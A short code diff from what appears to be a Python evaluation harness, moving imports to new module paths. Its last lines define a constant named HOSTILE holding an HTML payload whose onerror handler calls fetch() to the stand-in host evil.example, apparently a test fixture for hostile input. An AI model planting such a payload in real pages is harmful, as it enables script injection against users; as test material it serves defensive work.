@@ -11,15 +11,15 @@ from typing import Any
 
 import yaml
 
-from harness import ratings
 from harness.backends.base import Candidate
 from harness.backends.scripted import ScriptedBackend
-from harness.ratings import Gold, Rules, Session
-from harness.records import Run
-from harness.runner import score
-from harness.store import Store
-from harness.suite import load_suite
-from harness.workspace import Workspace
+from harness.core.types import Run
+from harness.core.workspace import Workspace
+from harness.evaluation.runner import score
+from harness.ratings import session as ratings
+from harness.ratings.session import Gold, Rules, Session
+from harness.store.store import Store
+from harness.suite.load import load_suite
 
 HOSTILE = (
     '<img src="http://evil.example/x.png" onerror="fetch(\'http://evil.example\')">'
